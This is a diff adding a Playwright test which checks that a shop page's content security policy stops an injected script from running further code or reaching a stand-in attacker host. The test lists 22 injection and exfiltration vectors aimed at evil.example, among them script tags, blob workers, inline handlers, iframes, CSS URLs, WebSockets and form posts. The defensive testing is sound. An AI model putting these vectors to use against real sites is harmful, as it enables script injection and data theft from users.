@@ -73,6 +73,83 @@ test("Anna's page loads and sends nothing elsewhere, and runs no element that wa
   await page.close();
 });
 
+/** What an extension or an injected script would do next; each way would run its code or tell elsewhere what it knows. */
+function tryAsExtension(page: Page): Promise<Record<string, string>> {
+  return page.evaluate(async () => {
+    const evil = "https://evil.example/take";
+    const code = "globalThis.ran = true";
+    const added = (name: string, attributes: Record<string, string>) => {
+      const element = document.createElement(name);
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+      document.body.append(element);
+    };
+    const script = (attributes: Record<string, string>) => added("script", attributes);
+    const attempts: Attempts = {
+      "a script element": () => script({ src: `${evil}.js` }),
+      "a module": () => import(/* @vite-ignore */ `${evil}.js`),
+      "a module of text": () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
+      "a script of a blob": () => script({ src: URL.createObjectURL(new Blob([code], { type: "text/javascript" })) }),
+      "an inline script": () =>
+        document.body.append(Object.assign(document.createElement("script"), { textContent: code })),
+      "a handler": () => added("img", { src: "data:,", onerror: code }),
+      "a function of text": () => new Function(code)(),
+      "compiled WebAssembly": () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
+      "a worker of a blob": () => new Worker(URL.createObjectURL(new Blob([code]))),
+      "a frame": () => added("iframe", { src: evil }),
+      "a frame of text": () => added("iframe", { src: `data:text/html,<script>${code}</script>` }),
+      "an object": () => added("object", { data: evil }),
+      "an embedded file": () => added("embed", { src: evil }),
+      "a style sheet": () => added("link", { rel: "stylesheet", href: `${evil}.css` }),
+      "inline style": () => added("p", { style: `background: url(${evil})` }),
+      "a picture in a rule": () => {
+        document.styleSheets[0]?.insertRule(`body { background: url(${evil}) }`);
+      },
+      "a typeface": () => new FontFace("evil", `url(${evil})`).load(),
+      "a film": () => added("video", { src: evil }),
+      "a socket": () => new WebSocket("wss://evil.example/take"),
+      "a stream": () => new EventSource(evil),
+      "a prefetch": () => added("link", { rel: "prefetch", href: evil }),
+      "a form": () => {
+        added("form", { action: evil, method: "post" });
+        document.forms[document.forms.length - 1]?.submit();
+      },
+    };
+    const violation = () =>
+      new Promise<string>((resolve) => {
+        const options = { once: true };
+        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), options);
+      });
+    const patience = () => new Promise<string>((resolve) => setTimeout(resolve, 3_000, "nothing stopped it"));
+    const outcomes: Record<string, string> = {};
+    for (const [name, attempt] of Object.entries(attempts)) {
+      const reported = violation();
+      try {
+        await attempt();
+      } catch {
+        // What was thrown says less than the report.
+      }
+      outcomes[name] = await Promise.race([reported, patience()]);
+    }
+    return outcomes;
+  });
+}
+
+test("a hostile script in Anna's page runs no further code, and reaches no other place", async ({ browser, shop }) => {
+  const page = await browser.newPage({ baseURL: shop.facts.url });
+  const reached: string[] = [];
+  await page.route("https://evil.example/**", (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ contentType: "text/javascript", body: "globalThis.ran = true" });
+  });
+  await page.goto("/products");
+  const outcomes = await tryAsExtension(page);
+  expect(Object.entries(outcomes).filter(([, directive]) => directive === "nothing stopped it")).toEqual([]);
+  expect(Object.keys(outcomes).length).toBe(22);
+  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
+  expect(reached).toEqual([]);
+  await page.close();
+});
+
 test("a page of somebody else's cannot frame the shop", async ({ browser, shop }) => {
   const page = await browser.newPage();
   await page.route("https://evil.example/", (route) =>
